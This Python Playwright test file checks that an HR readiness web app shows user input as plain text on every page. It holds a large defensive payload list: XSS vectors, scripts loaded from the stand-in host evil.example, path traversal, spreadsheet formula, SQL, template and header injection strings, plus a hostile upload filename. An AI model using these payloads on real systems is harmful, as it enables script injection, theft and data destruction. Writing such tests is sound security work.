"""Whatever people write into whatever field is text and nothing else, on every page, in a real browser."""

import csv
import io
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path
from string import ascii_letters, digits
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Page, Response
from werkzeug.routing import Map

from drills.library import load_library
from readiness.accounts.actions import AccountWish, invite
from readiness.accounts.standing import Moment
from readiness.certificates.actions import (
    CertificateDetails,
    Desk,
    Seen,
    add_certificate,
    correct_certificate,
    revoke_certificates,
)
from readiness.certificates.kind_actions import add_kind
from readiness.certificates.kinds import certificate_kinds
from readiness.certificates.queries import get_certificate
from readiness.foundation import clock
from readiness.foundation.database import connected, open_database
from readiness.foundation.errors import InvalidInput
from readiness.handbook.numbers import call_link, text_link
from readiness.imports.reading.tidying import tidy
from readiness.people.person_actions import NewPerson, PersonDetails, Work, add_person, edit_person, seen_of
from readiness.people.queries import find_department
from readiness.people.site_actions import SiteDetails, add_site, edit_site, site_seen
from readiness.people.work_actions import Days, record_leave
from readiness.protocols.queries import shipped_protocols
from readiness.requirements.actions import ExemptionRequest, grant_exemption
from readiness.requirements.own_requirements import ClauseRequest, write_own_clause
from readiness.standards.crisis_lines import load_crisis_lines
from readiness.standards.packs import Clause, shipped_packs
from readiness.web.access import Role
from readiness.web.addresses import CodeConverter
from tests.browser.conftest import Visitor
from tests.browser.pages import PAGES, PageCase
from tests.browser.serving import LiveServer, serve
from tests.conftest import close

# What gets through makes an element with the mark `pwned`, asks with a dialog, or calls home.
TEXTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1) class=pwned>",
    "<svg id=pwned onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>pwned</text></a></svg>",
    "<svg><style><img class=pwned src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img class=pwned src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)' class=pwned>click</math>",
    "<iframe class=pwned srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object class=pwned data='data:text/html,<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1) class=pwned>",
    "<input autofocus onfocus=alert(1) class=pwned>",
    "<form class=pwned action=//evil.example><button>Sign in</button>",
    "<base href='//evil.example/' class=pwned>",
    "<meta http-equiv=refresh content='0;url=//evil.example' class=pwned>",
    "<link rel=stylesheet href=//evil.example/x.css class=pwned>",
    "<style class=pwned>body{display:none}</style>",
    "javascript:alert(1)",
    "java\tscript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/%2e%2e",
    "../../etc/passwd",
    '" autofocus onfocus="alert(1)" class="pwned',
    "' autofocus onfocus='alert(1)' class='pwned",
    "` onfocus=`alert(1)` class=`pwned",
    '"><img class=pwned src=x onerror=alert(1)>',
    "'><img class=pwned src=x onerror=alert(1)>",
    "x onmouseover=alert(1) class=pwned",
    "</title><b class=pwned>out of the title",
    "</textarea></select></option><b class=pwned>out of the field",
    "</td></tr></table></main><b class=pwned>out of the table",
    "<!-- never closed",
    "--><b class=pwned>out of the comment<!--",
    "*/ body{display:none} /*",
    "<![CDATA[<b class=pwned>]]>",
    "<?php echo 1 ?><%= 7*7 %>",
    "<b class=pwned",
    "<plaintext class=pwned>",
    "&lt;b class=pwned&gt; &amp;amp; &#60;b&#62;",
    "&#x3c;img class=pwned src=x onerror=alert(1)&#x3e;",
    "&nosuchentity; &#0; &#xD800; &",
    "{{7*7}} {% raw %} {# #}",
    "{{ config.items() }}${7*7}#{7*7}",
    '=HYPERLINK("http://evil.example","pay")',
    "+1+cmd|' /C calc'!A0",
    "-2+3 @SUM(1)",
    "%s %d %(x)s %(name)s %n %%",
    "{0} {} {name.__class__} {{",
    "Robert'); DROP TABLE person;--",
    "' OR '1'='1\" OR \"\"=\"",
    "%_%\\_[a-z]*?",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "W" * 180,
    "Zal\u0335\u0321\u0353go\u0300\u0301\u0302\u0303\u0304\u0306\u0307\u0308\u030a",
    "\U0001f469\u200d\U0001f692\U0001f3f4\U000e0067\U000e007f\u2764\ufe0f <b class=pwned>",
    "one\u2028two\u2029three\nfour\tfive\\n\\0%00%0d%0aSet-Cookie:x=1",
    "null None undefined NaN true \ue000\uffff",
)  # fmt: skip
COUNT = len(TEXTS)
CLAUSES = 12
SHORT = 64
IN_MAIL = frozenset(ascii_letters + digits + "!#$%&'*+/=?^_`{|}~-")
"""What an address may hold before its @."""
ACTOR = "hr@example.org"
TODAY = clock.today("America/New_York")
LISTS = (
    "/people",
    "/people/sites",
    "/people/departments",
    "/certificates",
    "/compliance",
    "/settings/accounts",
)


def text(row: int, place: int) -> str:
    """The text of a row in a field: over all rows each field gets each text, never two fields of a row one."""
    return TEXTS[(row + 7 * place) % COUNT]


@dataclass
class Written:
    """Pages to open, with the texts that must be seen there."""

    pages: dict[str, list[str]] = field(default_factory=dict)
    accounts: dict[int, str] = field(default_factory=dict)


@pytest.fixture
def hostile(sample: Path, tmp_path: Path) -> Iterator[tuple[LiveServer, Written]]:
    """The sample, and 60 rows of everything with hostile texts in every field."""
    assert COUNT == len(set(TEXTS)) == 60
    path = tmp_path / "readiness.sqlite"
    shutil.copy(sample, path)
    open_database(f"sqlite:///{path}")
    with connected():
        written = write_all()
    close()
    with serve(tmp_path) as live:
        yield live, written


def write_all() -> Written:
    written = Written()
    for number in range(CLAUSES):
        write_clause(number)
        written.pages[f"/compliance/requirements/hostile/clause-{number}"] = clause_texts(number)[:4]
    written.pages["/compliance/packs/hostile"] = [TEXTS[3]]
    written.pages["/compliance/exemptions"] = []
    written.pages["/compliance/requirements/hostile/clause-5/edit"] = []
    kinds = [write_kind(row) for row in range(COUNT)]
    assert sum(kind != "mhfa" for kind in kinds) > COUNT * 3 // 4
    for row, kind in enumerate(kinds):
        site_id, code = write_site(row, written)
        person_id = write_person(row, site_id, written)
        write_certificate(row, person_id, kind, written)
        write_exemption(row, code, written)
        write_account(row, written)
    assert len(written.accounts) > COUNT * 3 // 4
    return written


def write_site(row: int, written: Written) -> tuple[int, str]:
    code = text(row, 0)[:SHORT]
    names = (
        "name", "address", "region", "kind", "hazard", "outside_line_prefix",
        "meeting_place", "exits", "assembly_point", "defibrillator", "dispatcher_words",
    )  # fmt: skip
    texts = {name: text(row, place) for place, name in enumerate(names, 1)}
    details = SiteDetails(**texts, country="US", time_zone="America/New_York", languages=text(row, 8))
    site = add_site(code, SiteDetails("Before", country="US", time_zone="America/New_York"), ACTOR)
    edit_site(site.id, details, text(row, 9), site_seen(site), ACTOR)
    seen = [texts[name] for name in ("name", "address", "region", "kind")]
    written.pages[f"/people/sites/{site.id}"] = [*seen, code, text(row, 9)]
    if row % 4 == 0:
        written.pages[f"/people/sites/{site.id}/edit"] = []
    return site.id, site.code


def write_person(row: int, site_id: int, written: Written) -> int:
    number, phone, department, title = (text(row, place) for place in (10, 11, 12, 13))
    work = Work(site_id, department, title)
    mail = ("".join(filter(IN_MAIL.__contains__, text(row, 14)))[:64] or "nobody") + "@example.org"
    details = PersonDetails(text(row, 15), text(row, 16), mail, phone[:SHORT], text(row, 17))
    new = NewPerson(number[:SHORT], PersonDetails("Before"), work, from_on=date(2025, 1, 1))
    person = add_person(new, ACTOR)
    edit_person(person.id, details, text(row, 18), seen_of(person), ACTOR)
    record_leave(person.id, Days(date(2026, 1, 1), date(2026, 1, 2), text(row, 19)), ACTOR)
    seen = [number[:SHORT], phone[:SHORT], department, title, mail, text(row, 15), text(row, 16)]
    written.pages[f"/people/{person.id}"] = [*seen, text(row, 18)]
    made = find_department(tidy(department))
    assert made is not None
    if row % 4 == 1:
        written.pages[f"/people/{person.id}/edit"] = []
        written.pages[f"/people/{person.id}/move"] = []
        written.pages[f"/people/departments/{made.id}"] = [department]
        written.pages[f"/people/{person.id}/certificates/add"] = []
    return int(person.id)


def write_kind(row: int) -> str:
    """A kind that is called so, if it may be; else one that is there."""
    try:
        add_kind(f"hostile-{row}", {"title": text(row, 20)}, ACTOR)
    except InvalidInput:  # to those who compare names it is called as another one
        return "mhfa"
    return f"hostile-{row}"


def write_certificate(row: int, person_id: int, kind: str, written: Written) -> None:
    desk = Desk(ACTOR, TODAY, certificate_kinds())
    details = CertificateDetails(date(2025, 6, 1), None, False, text(row, 21), "Before")
    made = add_certificate(person_id, kind, details, desk)
    details = CertificateDetails(date(2025, 6, 1), None, False, text(row, 21), text(row, 22))
    correct_certificate(Seen(made, get_certificate(made).id), details, text(row, 23), desk)
    seen = [text(row, 21), text(row, 22), text(row, 23)]
    if kind != "mhfa":
        seen.append(text(row, 20))
    if row % 2:
        revoke_certificates([Seen(made, get_certificate(made).id)], TODAY, text(row, 24), ACTOR)
        seen.append(text(row, 24))
    written.pages[f"/certificates/{made}"] = seen
    if row % 4 == 2:
        written.pages[f"/certificates/{made}/renew"] = []
        written.pages[f"/certificates/{made}/correct"] = []
        written.pages[f"/certificates/{made}/revoke"] = []


def write_clause(number: int) -> None:
    said = dict(zip(("title", "citation", "remedy", "note", "owner"), clause_texts(number), strict=True))
    clause = Clause.model_validate(
        {
            "id": f"clause-{number}", "severity": "high", "check": "holders_per_headcount",
            "terms": [{"from": date(2025, 1, 1), "certificate": "mhfa", "at_least": 99}],
            "source_url": "javascript:alert(1)", **said,
        }
    )  # fmt: skip
    write_own_clause(ClauseRequest("hostile", TEXTS[3], clause, date(2025, 1, 1)), ACTOR)


def clause_texts(number: int) -> list[str]:
    return [TEXTS[number * 5 + place] for place in range(5)]


def write_exemption(row: int, code: str, written: Written) -> None:
    """Half of the sites are exempted from a clause; the others have a gap, whose remedy is shown."""
    number = row % CLAUSES
    title, citation, remedy, note, _owner = clause_texts(number)
    seen = [title, citation, note, TEXTS[3], remedy]
    if row // CLAUSES % 2:
        reason = text(row, 25)
        until_on = date(TODAY.year + 1, 1, 1)
        request = ExemptionRequest("hostile", f"clause-{number}", code, date(2025, 1, 1), until_on, reason)
        grant_exemption(request, ACTOR)
        seen[-1] = reason
    written.pages[f"/compliance/findings/hostile/clause-{number}/{in_address(code)}"] = seen


def in_address(code: str) -> str:
    """The code as our own links carry it."""
    return CodeConverter(Map()).to_url(code)


def write_account(row: int, written: Written) -> None:
    wish = AccountWish(text(row, 26), Role.HR)
    try:
        link = invite(f"hostile-{row}@example.org", wish, ACTOR, Moment(clock.now(), TODAY))
    except InvalidInput:  # a name is printed on one line: what cannot be is refused
        assert not wish.name.isprintable()
        return
    written.accounts[row] = wish.name
    assert link.token


SOURCES = sorted(
    {
        *(
            url
            for pack in shipped_packs().values()
            for url in (pack.source_url, *(c.source_url for c in pack.clause))
        ),
        *(source.url for protocol in shipped_protocols().values() for source in protocol.sources),
        *(source.url for scenario in load_library().values() for source in scenario.sources),
        *(url for line in load_crisis_lines().values() for url in (line.source_url, line.chat_url)),
        *(call_link(line.call) for line in load_crisis_lines().values() if line.call),
        *(text_link(line.text) for line in load_crisis_lines().values() if line.text),
    }
    - {""}
)
"""Where shipped requirements, protocols and scenarios are written, and the numbers of shipped lines: the only addresses
elsewhere that a page leads to."""

# Whatever in the page does, or leads to, what no template of ours says; and all that is to be read.
LOOK = """(addresses) => {
  const sources = addresses.map((each) => new URL(each).href);
  const wrong = [...document.querySelectorAll("#pwned, .pwned, base, iframe, object, embed, plaintext, math")]
    .map((each) => each.outerHTML.slice(0, 200));
  for (const each of document.querySelectorAll("*")) {
    for (const {name, value} of each.attributes) {
      if (name.startsWith("on") || name === "srcdoc" || name === "style") wrong.push(`${name}=${value}`);
    }
  }
  for (const [names, kind] of [["a", "href"], ["form", "action"], ["button[formaction]", "formAction"]]) {
    for (const each of document.querySelectorAll(names)) {
      const {origin, href} = new URL(each[kind] || location.href, location.href);
      if (origin !== location.origin && !sources.includes(href)) wrong.push(each.outerHTML);
    }
  }
  const fields = [...document.querySelectorAll("input, textarea")].map((each) => each.value);
  return {wrong, text: [document.title, document.body.textContent, ...fields].join("\\n")};
}"""


def squeezed(read: str) -> str:
    return " ".join(tidy(read).split())


@dataclass
class Watched:
    """A page that is looked at wherever it goes; `faults`: all that was found wrong."""

    page: Page
    faults: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.on("dialog", self._dialog)

    def _dialog(self, dialog: object) -> None:
        self.faults.append(f"{self.page.url}: a dialog")
        dialog.dismiss()  # type: ignore[attr-defined]

    def goto(self, path: str, texts: list[str] = [], statuses: tuple[int, ...] = (200,)) -> None:  # noqa: B006
        answer = self.page.goto(path)
        assert isinstance(answer, Response)
        if answer.status not in statuses:
            self.faults.append(f"{path}: {answer.status}")
        else:
            self.look(texts)

    def look(self, texts: list[str]) -> None:
        seen = self.page.evaluate(LOOK, SOURCES)
        self.faults += [f"{self.page.url}: {each}" for each in seen["wrong"]]
        read = squeezed(seen["text"])
        self.faults += [f"{self.page.url}: not shown: {each}" for each in texts if squeezed(each) not in read]


VisitorOf = Callable[[LiveServer], Visitor]


def test_what_people_write_is_text_on_every_page(
    hostile: tuple[LiveServer, Written], visitor_of: VisitorOf
) -> None:
    live, written = hostile
    someone = visitor_of(live)
    roles = {Role.HR, *map(who_opens, PAGES)}
    watched = {role: Watched(someone.open("about:blank", role)) for role in roles}
    for path, texts in written.pages.items():
        watched[Role.HR].goto(path, texts)
    look_at_accounts(watched[Role.ADMIN], written)
    for case in PAGES:
        watched[who_opens(case)].goto(case.path, statuses=(case.status,))
    import_hostile_file(watched[Role.HR])
    ask_with_hostile_addresses(watched[Role.ADMIN])
    assert [fault for each in watched.values() for fault in each.faults] == []
    # The browser itself says of each refused address that it was refused.
    someone.complaints[:] = [each for each in someone.complaints if "Failed to load resource" not in each]


def who_opens(case: PageCase) -> Role:
    """Who sees most of those who may; what everybody sees, HR opens."""
    return next(
        (role for role in (Role.ADMIN, Role.HR) if role in case.roles), next(iter(case.roles), Role.HR)
    )


def look_at_accounts(admin: Watched, written: Written) -> None:
    for digit in range(10):
        texts = [name for row, name in written.accounts.items() if str(row).startswith(str(digit))]
        admin.goto(f"/settings/accounts?q=hostile-{digit}", texts)
    for number in (10, 25, 40):
        admin.goto(f"/settings/accounts/{number}")
        admin.goto(f"/settings/accounts/{number}/edit")


def import_hostile_file(watched: Watched) -> None:
    """A file whose name, columns and cells are hostile: on each page of its road."""
    columns = ["EmployeeID", "FirstName", "LastName", "ADEmail", "Title", *TEXTS]
    rows = [
        [f"H{row}", text(row, 1), text(row, 2), text(row, 3), text(row, 4), *(text(row, at) for at in range(COUNT))]
        for row in range(COUNT)
    ]  # fmt: skip
    file = io.StringIO()
    csv.writer(file).writerows([columns, *rows])
    page = watched.page
    name = "<img src=x onerror=alert(1) class=pwned>'{{7*7}}.csv"
    page.goto("/imports")
    page.get_by_label("File", exact=True).set_input_files(
        {"name": name, "mimeType": "text/csv", "buffer": file.getvalue().encode()}
    )
    page.get_by_role("button", name="Look at the file").click()
    page.get_by_role("button", name="Go on").wait_for()
    watched.look([name, *TEXTS])
    page.get_by_label("What the column <script>alert(1)</script> is").select_option("site")
    page.get_by_role("button", name="Go on").click()
    read = page.get_by_role("button", name="Read the file and show what would change")
    read.wait_for()
    watched.look(list(TEXTS))
    read.click()
    page.get_by_role("heading", name="What would come of it").wait_for()
    watched.look([name])
    watched.goto(f"{page.url}/problems", [])
    watched.goto("/imports", [name])


def ask_with_hostile_addresses(watched: Watched) -> None:
    """Searches find nothing or something, wrong arguments are refused in words: nothing breaks."""
    for row, hostile in enumerate(TEXTS):
        path = LISTS[row % len(LISTS)]
        watched.goto(f"{path}?{urlencode({'q': hostile})}")
        every = ("sort", "as_of", "known_at", "after", "format", "standing", "status", "role", "kind")
        watched.goto(f"{path}?{urlencode(dict.fromkeys(every, hostile))}", statuses=(422,))
        for place, name in enumerate(("q", "sort", "as_of")):
            other = LISTS[(row + place + 1) % len(LISTS)]
            answer = watched.page.request.get(f"{other}?{urlencode({name: hostile})}")
            if answer.status not in (200, 422):
                watched.faults.append(f"{other} {name} {hostile}: {answer.status}")
